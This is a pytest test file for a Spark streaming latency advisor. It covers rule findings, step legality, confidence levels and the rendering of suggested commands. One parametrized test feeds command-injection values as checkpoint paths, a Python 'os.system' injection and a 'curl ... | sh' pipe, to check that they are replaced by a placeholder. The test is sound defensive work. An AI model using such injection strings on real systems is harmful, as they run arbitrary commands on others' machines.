"""Three answers, never two: fired, quiet, skipped; yes, no, if."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from advisor.catalogue import Catalogue, Condition, load
from advisor.engine import Finding, Silenced, Skipped, judge, judge_rule
from advisor.engine.conditions import ask, ask_all
from advisor.engine.levels import confidence, felt_level, level_of
from advisor.engine.quiet import NotApplicable
from advisor.engine.sentences import sentence, setting
from advisor.facts import Known
from tests.made import window

BATCH = {"triggerExecution": 100, "addBatch": 30, "walCommit": 28, "commitOffsets": 30, "numInputRows": 100}
KNOWN = {
    "stateful": False, "sink": "kafka", "trigger": "unspecified", "spark_version": "4.3.0", "platform": "open_source",
    "async_progress": False,
}  # fmt: skip


def judged(catalogue: Catalogue, batches: list[dict[str, Any]], rule: str = "LG001", **known: Any) -> Any:
    interval = known.pop("interval_ms", None)
    return judge_rule(catalogue.rules[rule], window(batches, interval_ms=interval, **known))


def test_a_rule_fires_with_level_confidence_and_a_legal_step(catalogue: Catalogue) -> None:
    finding = judged(catalogue, [BATCH] * 60, **KNOWN)
    assert isinstance(finding, Finding)
    assert (finding.level, finding.confidence) == ("high", "high")
    assert finding.says.startswith("In a typical batch, 58 ms of 100 ms (58.0 %)")
    assert next((step.id, step.legal) for step in finding.steps) == ("async-progress", "yes")


def test_a_setting_that_cannot_be_computed_says_why() -> None:
    unknown = setting("{advised_state_partitions}", window([BATCH]))
    assert unknown == "<advised state partitions: the number of task slots is not known>"
    assert setting("{advised_state_partitions}", window([BATCH], task_slots=4)) == "4"


@pytest.mark.parametrize(
    ("path", "call", "command"),
    [
        ("s3a://lake/checkpoints/orders", "s3a://lake/checkpoints/orders", "s3a://lake/checkpoints/orders"),
        ('/x"); import os; os.system("id', "<checkpoint_path>", "PATH"),
        ("/x; curl example.org | sh", "<checkpoint_path>", "PATH"),
        (None, "<checkpoint_path>", "PATH"),
    ],
)
def test_a_command_names_the_checkpoint_where_its_path_is_known_and_plain(
    path: str | None, call: str, command: str
) -> None:
    known = window([BATCH], **({"checkpoint_path": path} if path else {}))
    assert setting('repartition("{checkpoint_path}", 2)', known) == f'repartition("{call}", 2)'
    assert sentence("latency-advisor checkpoint {checkpoint_path}", known) == f"latency-advisor checkpoint {command}"


def test_a_trigger_is_set_in_words(catalogue: Catalogue) -> None:
    known = KNOWN | {"source": "kafka", "latency_target_ms": 20}
    finding = judged(catalogue, [BATCH] * 60, "TR004", **known)
    step = next(step for step in finding.steps if step.id == "real-time-mode")
    assert step.change.trigger == {"real_time": "1 minute"}


def test_an_unknown_fact_is_named_once_in_a_step(catalogue: Catalogue) -> None:
    operator = {"operatorName": "save", "commitTimeMs": 400, "numShufflePartitions": 8, "numStateStoreInstances": 8}
    batch = {"triggerExecution": 100, "addBatch": 90, "operators": [operator]}
    finding = judged(
        catalogue, [batch] * 60, "ST001", stateful=True, state_store="rocksdb", spark_version="4.3.0", sink="noop"
    )
    step = next(step for step in finding.steps if step.id == "offline-state-repartition")
    assert step.legal == "if"
    assert step.unknown == ("task_slots",)
    assert step.because.count("task_slots=") == 1


def test_a_step_that_loses_the_state_is_not_offered_on_a_guess(catalogue: Catalogue) -> None:
    operator = {"operatorName": "stateStoreSave", "commitTimeMs": 400, "numShufflePartitions": 8}
    batch = {"triggerExecution": 100, "addBatch": 90, "operators": [operator]}
    finding = judged(catalogue, [batch] * 60, "ST001", stateful=True, state_store="hdfs", spark_version="4.0.0")
    assert "fewer-state-partitions" not in {step.id for step in finding.steps}


def test_steps_stand_in_the_order_of_what_they_save(catalogue: Catalogue) -> None:
    operator = {"operatorName": "stateStoreSave", "commitTimeMs": 638, "numShufflePartitions": 8}
    batch: dict[str, Any] = {"triggerExecution": 621, "addBatch": 540}
    batch["operators"] = [operator | {"allUpdatesTimeMs": 90, "numRowsUpdated": 500}]
    known = {"stateful": True, "state_store": "rocksdb", "changelog": False, "task_slots": 2, "sink": "kafka"}
    finding = judged(catalogue, [batch] * 60, "ST001", spark_version="4.3.0", platform="open_source", **known)
    legal = [step.id for step in finding.steps if step.legal == "yes"]
    assert legal[:2] == ["offline-state-repartition", "changelog-checkpointing"]


def test_one_batch_is_judged_and_says_so(catalogue: Catalogue) -> None:
    finding = judged(catalogue, [BATCH], **KNOWN)
    assert finding.confidence == "low"
    assert "one batch" in finding.says


@pytest.mark.parametrize(
    ("known", "legal", "because"),
    [
        ({"stateful": True}, "no", "state"),
        ({"sink": "foreach_batch"}, "no", "sink"),
        ({"sink": "foreach", "spark_version": "4.2.1"}, "no", "4.3"),
        ({"sink": "foreach"}, "yes", ""),
        ({"trigger": "available_now"}, "no", "AvailableNow"),
        ({"spark_version": "3.3.4"}, "no", "3.4"),
    ],
)
def test_legality_of_asynchronous_progress(
    catalogue: Catalogue, known: dict[str, Any], legal: str, because: str
) -> None:
    finding = judged(catalogue, [BATCH] * 60, **(KNOWN | known))
    step = next(step for step in finding.steps if step.id == "async-progress")
    assert step.legal == legal
    assert because in (step.because or "")


@pytest.mark.parametrize("unknown", ["stateful", "sink", "trigger", "spark_version"])
def test_what_is_not_known_makes_a_step_an_if_and_names_the_fact(catalogue: Catalogue, unknown: str) -> None:
    finding = judged(catalogue, [BATCH] * 60, **{k: v for k, v in KNOWN.items() if k != unknown})
    step = next(step for step in finding.steps if step.id == "async-progress")
    assert step.legal == "if"
    assert unknown in step.unknown
    assert f"--set {unknown}=" in step.because


def test_on_databricks_the_runtime_decides_as_well(catalogue: Catalogue) -> None:
    known = KNOWN | {"platform": "databricks", "databricks_runtime": "11.3", "spark_version": "3.3.0"}
    assert judged(catalogue, [BATCH] * 60, **known).steps[0].legal == "yes"
    older = known | {"databricks_runtime": "10.4"}
    assert judged(catalogue, [BATCH] * 60, **older).steps[0].legal == "no"


def test_a_long_trigger_makes_it_low_whatever_the_share(catalogue: Catalogue) -> None:
    row = BATCH | {"triggerExecution": 150, "walCommit": 50, "commitOffsets": 50}
    known = KNOWN | {"trigger": "processing_time", "trigger_interval_ms": 60_000, "interval_ms": 60_000}
    assert judged(catalogue, [row] * 60, **known).level == "low"


def test_quiet_when_async_is_on(catalogue: Catalogue) -> None:
    assert isinstance(judged(catalogue, [BATCH] * 60, **(KNOWN | {"async_progress": True})), NotApplicable)


def test_skipped_with_the_fact_that_is_missing(catalogue: Catalogue) -> None:
    known = {k: v for k, v in KNOWN.items() if k != "async_progress"}
    skipped = judged(catalogue, [BATCH] * 60, "LG002", **known)
    assert isinstance(skipped, Skipped)
    assert "async_progress" in skipped.reason


def test_every_rule_is_told_once_and_a_silenced_one_as_silenced(catalogue: Catalogue) -> None:
    silenced = Silenced("LG001", "known since March", None)
    found = judge(window([BATCH] * 60, **KNOWN), catalogue, [silenced])
    assert found.suppressed == (silenced,)
    told = [*found.findings, *found.skipped, *found.suppressed, *found.passed, *found.not_applicable]
    assert sorted(entry.rule for entry in told) == sorted(catalogue.rules)


def test_a_rule_that_passed_tells_by_how_much(catalogue: Catalogue) -> None:
    calm = BATCH | {"triggerExecution": 9000, "addBatch": 8900, "walCommit": 5, "commitOffsets": 5}
    found = judge(window([calm] * 60, **KNOWN), catalogue)
    margins = {entry.rule: entry.margin for entry in found.passed}
    assert margins["LG001"].startswith("the share of the offset and commit logs: ")
    assert {entry.rule: entry.reason for entry in found.not_applicable}["SK003"] == "sink is kafka"


def test_a_rule_that_gives_way_to_another_cause_tells_which(catalogue: Catalogue) -> None:
    source = {"description": "KafkaV2[Subscribe[in]]", "numInputRows": 1, "startOffset": {"in": {"0": 5}},
              "endOffset": {"in": {"0": 6}}}  # fmt: skip
    slow = {"triggerExecution": 900, "addBatch": 800, "numInputRows": 1, "sources": [source]}
    found = judge(window([slow] * 60, **KNOWN, source="kafka"), catalogue)
    margin = {entry.rule: entry.margin for entry in found.passed}["SH003"]
    assert margin.startswith("excluded by the share of waiting for Kafka's empty fetches: ")


def test_a_team_can_set_its_own_levels(catalogue: Catalogue) -> None:
    made = window([BATCH] * 60, **KNOWN)
    assert judge(made, catalogue, levels={"LG001": {"high": 0.9}}).findings == ()


def test_nothing_is_judged_without_batches(catalogue: Catalogue) -> None:
    found = judge(window([]), catalogue)
    assert not found.findings
    assert any(s.reason.startswith("needs a steady batch") for s in found.skipped)


def condition(**keys: Any) -> Condition:
    return Condition.model_validate(keys)


def test_lines_limited_to_versions_while_the_version_is_not_known() -> None:
    lines = [
        condition(fact="sink", **{"in": ["kafka"]}, spark="<4.3", **{"else": "refused"}),
        condition(fact="sink", **{"in": ["kafka", "foreach"]}, spark=">=4.3", **{"else": "refused"}),
    ]
    assert ask_all(lines, window([BATCH], sink="kafka")).holds is True
    assert ask_all(lines, window([BATCH], sink="delta")).holds is False
    some = ask_all(lines, window([BATCH], sink="foreach"))
    assert some.holds is None
    assert some.unknown == ["spark_version"]
    assert ask_all(lines, window([BATCH], sink="foreach", spark_version="4.3.0")).holds is True
    assert ask_all(lines, window([BATCH], sink="foreach", spark_version="4.2.9")).holds is False


@pytest.mark.parametrize(
    ("asked", "known", "holds"),
    [
        ({"fact": "spark_version", "at_least": "3.4"}, {"spark_version_at_least": "3.4"}, True),
        ({"fact": "spark_version", "at_least": "3.4"}, {"spark_version_at_least": "3.2"}, None),
        # an interval that holds the limit is no answer; a number that equals it reaches it
        *(({"metric": "state_commit_wall_ms", "at_least": least}, {}, holds)
          for least, holds in ((50, None), (5, True), (500, False))),
        ({"metric": "trigger_execution_ms", "at_least": 100}, {}, True),
        ({"metric": "trigger_execution_ms", "below": 100}, {}, False),
    ],
)  # fmt: skip
def test_the_answer_to_a_condition(asked: dict[str, Any], known: dict[str, Any], holds: bool | None) -> None:
    state = [{"operatorName": "s", "commitTimeMs": 100, "numShufflePartitions": 10}]
    assert ask(condition(**asked), window([BATCH | {"addBatch": 80, "operators": state}], **known)).holds is holds


def test_a_part_of_a_batch_is_at_most_the_whole_in_a_sentence() -> None:
    state = [{"operatorName": "s", "commitTimeMs": 150, "numShufflePartitions": 2}]
    one, two = (window([BATCH | {"operators": state}] * 12, task_slots=slots) for slots in (1, 2))
    assert sentence("{state_commit_wall_ms} of {trigger_execution_ms}", one) == "100 ms of 100 ms"
    assert sentence("{state_commit_wall_ms} of {trigger_execution_ms}", two) == "75 ms of 100 ms"


UP, DOWN = (0.1, 0.2, 0.4), (10, 5, 1)


@pytest.mark.parametrize(
    ("value", "limits", "level"),
    [(0.05, UP, None), (0.1, UP, "low"), (0.3, UP, "medium"), (0.9, UP, "high"), (3, DOWN, "medium")],
)
def test_levels(value: float, limits: tuple[float, ...], level: str | None) -> None:
    assert level_of(value, dict(zip(("low", "medium", "high"), limits, strict=True))) == level


@pytest.mark.parametrize(
    ("batches", "doubts", "sure"),
    [
        (30, [], "high"), (29, [], "medium"), (9, [], "low"), (30, [True, False], "medium"), (10, [True, True], "low"),
    ],
)  # fmt: skip
def test_confidence(batches: int, doubts: list[bool], sure: str) -> None:
    assert confidence(batches, *doubts) == sure


def test_what_nobody_feels_is_low() -> None:
    assert felt_level("high", 0.001) == "low"
    assert felt_level("high", 0.05) == "medium"
    assert felt_level("high", None) == "high"


OWN_RULE = {
    "id": "TM001", "slug": "batch-over-a-second", "title": "A batch takes longer than a second", "status": "stable",
    "measure": {"metric": "trigger_execution_ms", "stat": "p50"}, "levels": {"high": 1000},
    "says": "The median batch takes {trigger_execution_ms}.", "why": "The team wants a second.",
    "references": ["team handbook"],
    "examples": [
        {
            "name": "slow", "expect": {"verdict": "fires", "level": "high"},
            "batches": {"count": 40, "row": {"triggerExecution": 2000, "addBatch": 1900}},
        },
        {
            "name": "fast", "expect": {"verdict": "quiet"},
            "batches": {"count": 40, "row": {"triggerExecution": 200, "addBatch": 190}},
        },
    ],
}  # fmt: skip


def test_a_team_adds_a_rule_by_adding_a_file(tmp_path: Path) -> None:
    folder = tmp_path / "team"
    folder.mkdir()
    (folder / "TM001-batch-over-a-second.yaml").write_text(yaml.safe_dump(OWN_RULE))
    rules = load([tmp_path])
    found = judge_rule(rules.rules["TM001"], window([BATCH | {"triggerExecution": 1500, "addBatch": 1400}] * 40))
    assert isinstance(found, Finding)
    assert found.says == "The median batch takes 1.5 s."


def test_an_interval_names_the_fact_that_would_narrow_it_and_no_other(catalogue: Catalogue) -> None:
    operator = {"operatorName": "save", "commitTimeMs": 40, "numShufflePartitions": 8, "numStateStoreInstances": 8}
    batch = {"triggerExecution": 100, "addBatch": 90, "operators": [operator]}
    known = {"stateful": True, "state_store": "hdfs", "spark_version": "4.0.0"}
    without = judged(catalogue, [batch] * 60, "ST001", **known)
    assert isinstance(without, Skipped)
    assert "--set task_slots=..." in without.reason
    shared = judged(catalogue, [batch] * 60, "ST001", **known, task_slots=8, slots_shared=True)
    assert isinstance(shared, Skipped)
    assert "--set" not in shared.reason


def test_what_holds_for_every_trigger_that_is_left_is_yes(catalogue: Catalogue) -> None:
    known = {name: value for name, value in KNOWN.items() if name != "trigger"}
    steps = judged(catalogue, [BATCH] * 60, **known, trigger_one_of=("unspecified", "processing_time")).steps
    assert next(step.legal for step in steps if step.id == "async-progress") == "yes"
    steps = judged(catalogue, [BATCH] * 60, **known, trigger_one_of=("once", "unspecified")).steps
    assert next(step.unknown for step in steps if step.id == "async-progress") == ("trigger",)


@pytest.mark.parametrize(
    ("bounds", "legal", "because"),
    [
        (
            {"spark_version_below": "3.4", "platform": "open_source"},
            "no",
            "It needs Spark 3.4 or later; this is below 3.4",
        ),
        ({"spark_version_below": "3.4", "databricks_runtime_below": "11.0"}, "no", "this is below 3.4"),
        ({"spark_version_at_least": "3.4", "spark_version_below": "4.0", "platform": "open_source"}, "yes", None),
        ({"spark_version_below": "4.0", "platform": "open_source"}, "if", "spark_version is not known"),
    ],
)
def test_a_version_is_known_by_its_bounds(
    catalogue: Catalogue, bounds: dict[str, str], legal: str, because: str | None
) -> None:
    known = {name: value for name, value in KNOWN.items() if name not in ("spark_version", "platform")}
    steps = judged(catalogue, [BATCH] * 60, **known, **bounds).steps
    step = next(step for step in steps if step.id == "async-progress")
    assert step.legal == legal
    assert because is None or because in step.because


def test_partitions_that_meet_as_many_slots_need_no_fewer(catalogue: Catalogue) -> None:
    operator = {"operatorName": "save", "commitTimeMs": 90, "numShufflePartitions": 2, "numStateStoreInstances": 2}
    batch = {"triggerExecution": 100, "addBatch": 90, "operators": [operator]}
    known = {"stateful": True, "state_store": "hdfs", "spark_version": "4.0.0"}
    steps = judged(catalogue, [batch] * 60, "ST001", **known, task_slots_at_least=2).steps
    assert "fewer-state-partitions" not in [step.id for step in steps]


def test_what_rests_on_an_inferred_fact_is_less_sure_and_its_steps_are_no_plain_yes(catalogue: Catalogue) -> None:
    told = window([{"triggerExecution": 900, "addBatch": 850}] * 40, interval_ms=60_000, trigger="processing_time",
                  trigger_interval_ms=60_000)  # fmt: skip
    guessed = told.with_facts(told.facts.having(trigger=Known("processing_time", "inferred")))
    found = [judge_rule(catalogue.rules["TR006"], each) for each in (told, guessed)]
    assert all(isinstance(each, Finding) for each in found)
    assert [(each.confidence, each.steps[0].legal) for each in found if isinstance(each, Finding)] == [
        ("medium", "yes"), ("low", "if"),
    ]  # fmt: skip


def test_a_trigger_that_is_only_inferred_excludes_no_rule(catalogue: Catalogue) -> None:
    overrun = [{"triggerExecution": 3000 + 7 * n, "addBatch": 2900} for n in range(30)]
    shown = window(overrun)
    inferred = shown.with_facts(shown.facts.having(trigger=Known("unspecified", "inferred")))
    verdict = judge_rule(catalogue.rules["TR007"], inferred)
    assert isinstance(verdict, Skipped) and "only inferred" in verdict.reason
    assert not isinstance(judge_rule(catalogue.rules["TR007"], window(overrun, trigger="unspecified")), Skipped)
